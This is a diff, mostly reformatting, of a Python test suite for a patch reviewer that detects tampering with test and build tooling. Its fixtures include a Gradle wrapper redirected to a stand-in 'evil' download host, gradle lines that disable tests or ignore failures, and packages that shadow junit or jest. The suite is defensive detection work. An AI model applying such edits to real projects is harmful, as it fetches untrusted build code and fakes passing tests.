@@ -25,7 +25,9 @@ def _new(path: str, *lines: str) -> str:
     return f"diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n@@ -0,0 +1,{len(lines)} @@\n{body}"
 
 
-def _review(fw: frameworks.Framework, patch: str, before: dict | None = None, after: dict | None = None, **kw) -> Review:
+def _review(
+    fw: frameworks.Framework, patch: str, before: dict | None = None, after: dict | None = None, **kw
+) -> Review:
     before = before or {}
     return review(parse_patch(patch), fw, before=before, after=after if after is not None else before, **kw)
 
@@ -80,7 +82,10 @@ def test_dependency_bump_in_package_json_is_allowed() -> None:
         ({"jest.config.ts": b"export default { setupFilesAfterEnv: ['./test/after-env.ts'] }"}, "test/after-env.ts"),
         ({"jest.config.cts": b"module.exports = { testEnvironment: '<rootDir>/env' }"}, "env/index.js"),
         ({"package.json": b'{"jest": {"globalSetup": "<rootDir>/setup/global.js"}}'}, "setup/global.js"),
-        ({"package.json": b'{"jest": "./config/jest.json"}', "config/jest.json": b'{"setupFiles": ["./s.js"]}'}, "s.js"),
+        (
+            {"package.json": b'{"jest": "./config/jest.json"}', "config/jest.json": b'{"setupFiles": ["./s.js"]}'},
+            "s.js",
+        ),
         ({"package.json": b'{"jest": "./config/jest.json"}'}, "config/jest.json"),
         ({}, "jest.config.cts"),
         ({}, "babel.config.js"),
@@ -106,8 +111,10 @@ def test_scripts_the_plan_runs_and_runner_package_overrides() -> None:
         "changed package.json resolutions of test-runner package 'jest-environment-node'",
     ]
     shadow = _review(RN, _new("packages/fake/package.json", "{", '  "name": "@jest/reporters"', "}"))
-    assert shadow.violations == ["packages/fake/package.json names its package '@jest/reporters', shadowing a test-runner package",
-                                 "changed the module identity of packages/fake/package.json (name)"]
+    assert shadow.violations == [
+        "packages/fake/package.json names its package '@jest/reporters', shadowing a test-runner package",
+        "changed the module identity of packages/fake/package.json (name)",
+    ]
 
 
 @pytest.mark.parametrize("key", ["name", "exports", "imports", "main", "type", "workspaces", "browser"])
@@ -123,7 +130,9 @@ def test_the_root_package_identity_is_runner_configuration(key: str) -> None:
 
 
 def test_a_nested_package_identity_is_runner_configuration() -> None:
-    found = _review(RN, _new("packages/ui/package.json", "{", '  "main": "./x.js",', '  "exports": {"./a": "./a.js"}', "}"))
+    found = _review(
+        RN, _new("packages/ui/package.json", "{", '  "main": "./x.js",', '  "exports": {"./a": "./a.js"}', "}")
+    )
     assert found.violations == ["changed the module identity of packages/ui/package.json (exports, main)"]
     assert found.restore == ["packages/ui/package.json"]
     assert _review(RN, _new("packages/ui/package.json", "{", '  "version": "1.0.0"', "}")).violations == []
@@ -146,12 +155,16 @@ def test_tools_of_react_native(path: str, kind: str) -> None:
     assert len(found.tools) == 1 and kind in found.tools[0][1] and found.flags == ["tools_touched"]
 
 
-@pytest.mark.parametrize("path", ["gradlew", "gradle/wrapper/gradle-wrapper.properties", "local.properties", "app/build/x"])
+@pytest.mark.parametrize(
+    "path", ["gradlew", "gradle/wrapper/gradle-wrapper.properties", "local.properties", "app/build/x"]
+)
 def test_tools_of_android(path: str) -> None:
     assert _review(ANDROID, _new(path, "x")).tools
 
 
-@pytest.mark.parametrize("path", ["android/gradlew", "android/gradlew.bat", "android/gradle/wrapper/gradle-wrapper.jar"])
+@pytest.mark.parametrize(
+    "path", ["android/gradlew", "android/gradlew.bat", "android/gradle/wrapper/gradle-wrapper.jar"]
+)
 def test_the_gradle_entry_point_is_a_tool_for_every_framework(path: str) -> None:
     """A React-Native or Flutter project's ``android/`` folder holds a Gradle wrapper too: never applied."""
     for framework in (RN, FLUTTER, ANDROID):
@@ -163,9 +176,11 @@ def test_a_name_through_a_link_the_patch_creates_is_a_tool() -> None:
     """``foo -> gradle`` (harmless alone) then ``foo/wrapper/gradle-wrapper.properties``: the ``patch``
     fallback would write the wrapper through the link; the section is never applied."""
     link = "diff --git a/foo b/foo\nnew file mode 120000\n--- /dev/null\n+++ b/foo\n@@ -0,0 +1 @@\n+gradle\n\\ No newline at end of file\n"
-    through = ("diff --git a/foo/wrapper/gradle-wrapper.properties b/foo/wrapper/gradle-wrapper.properties\n"
-               "--- a/foo/wrapper/gradle-wrapper.properties\n+++ b/foo/wrapper/gradle-wrapper.properties\n"
-               "@@ -1 +1 @@\n-distributionUrl=https\\://services.gradle.org/x.zip\n+distributionUrl=https\\://evil/x.zip\n")
+    through = (
+        "diff --git a/foo/wrapper/gradle-wrapper.properties b/foo/wrapper/gradle-wrapper.properties\n"
+        "--- a/foo/wrapper/gradle-wrapper.properties\n+++ b/foo/wrapper/gradle-wrapper.properties\n"
+        "@@ -1 +1 @@\n-distributionUrl=https\\://services.gradle.org/x.zip\n+distributionUrl=https\\://evil/x.zip\n"
+    )
     for framework in (ANDROID, FLUTTER, RN):
         found = _review(framework, link + through)
         assert [m for _, m in found.tools] == [
@@ -183,17 +198,17 @@ def test_ignored_at_base_and_links_into_tools_are_tools() -> None:
 @pytest.mark.parametrize(
     "line",
     [
-        '    testOptions { unitTests.isReturnDefaultValues = true }',
+        "    testOptions { unitTests.isReturnDefaultValues = true }",
         'tasks.named("testDebugUnitTest") { enabled = false }',
-        'tasks.withType<Test> { ignoreFailures = true }',
-        "configurations.all { resolutionStrategy.dependencySubstitution { substitute(module(\"junit:junit\")).using(project(\":fake\")) } }",
+        "tasks.withType<Test> { ignoreFailures = true }",
+        'configurations.all { resolutionStrategy.dependencySubstitution { substitute(module("junit:junit")).using(project(":fake")) } }',
         "apply from: 'scripts/hooks.txt'",
     ],
 )
 def test_gradle_test_lines_read_from_parsed_hunks(line: str) -> None:
     patch = (
         "diff --git a/app/build.gradle.kts b/app/build.gradle.kts\n--- a/app/build.gradle.kts\n+++ b/app/build.gradle.kts\n"
-        f"@@ -1,3 +1,4 @@\n android {{\n+{line}\n     namespace = \"x\"\n }}\n"
+        f'@@ -1,3 +1,4 @@\n android {{\n+{line}\n     namespace = "x"\n }}\n'
         + _diff("app/src/main/java/A.kt", "a", "b")
     )
     found = _review(ANDROID, patch)
@@ -202,7 +217,10 @@ def test_gradle_test_lines_read_from_parsed_hunks(line: str) -> None:
 
 
 def test_gradle_plain_changes_and_gradle_apply_are_allowed() -> None:
-    assert _review(ANDROID, _diff("app/build.gradle.kts", 'implementation("a:b:1")', 'implementation("a:b:2")')).violations == []
+    assert (
+        _review(ANDROID, _diff("app/build.gradle.kts", 'implementation("a:b:1")', 'implementation("a:b:2")')).violations
+        == []
+    )
     assert _review(ANDROID, _diff("build.gradle", "x", "apply from: 'gradle/common.gradle'")).violations == []
 
 
@@ -217,8 +235,12 @@ def test_a_content_line_starting_with_plus_plus_hides_nothing() -> None:
 
 
 def test_sources_shadowing_test_frameworks() -> None:
-    found = _review(ANDROID, _new("app/src/main/java/org/junit/Assert.java", "package org.junit;", "public class Assert {}"))
-    assert found.violations == ["app/src/main/java/org/junit/Assert.java declares a test framework's package: package org.junit;"]
+    found = _review(
+        ANDROID, _new("app/src/main/java/org/junit/Assert.java", "package org.junit;", "public class Assert {}")
+    )
+    assert found.violations == [
+        "app/src/main/java/org/junit/Assert.java declares a test framework's package: package org.junit;"
+    ]
     assert _review(ANDROID, _new("lib/src/main/kotlin/M.kt", "package io.mockk", "fun x() = 1")).violations
 
 
@@ -227,7 +249,9 @@ def test_flutter_configuration_overrides_and_shadow_packages() -> None:
         "changed Flutter test configuration test/flutter_test_config.dart"
     ]
     before = {"pubspec.yaml": b"name: app\ndependencies:\n  http: ^1.0.0\n"}
-    after = {"pubspec.yaml": b"name: app\ndependencies:\n  http: ^1.0.0\ndependency_overrides:\n  test:\n    path: fake\n"}
+    after = {
+        "pubspec.yaml": b"name: app\ndependencies:\n  http: ^1.0.0\ndependency_overrides:\n  test:\n    path: fake\n"
+    }
     assert _review(FLUTTER, _diff("pubspec.yaml", "a", "b"), before, after).violations == [
         "changed dependency_overrides of pubspec.yaml"
     ]
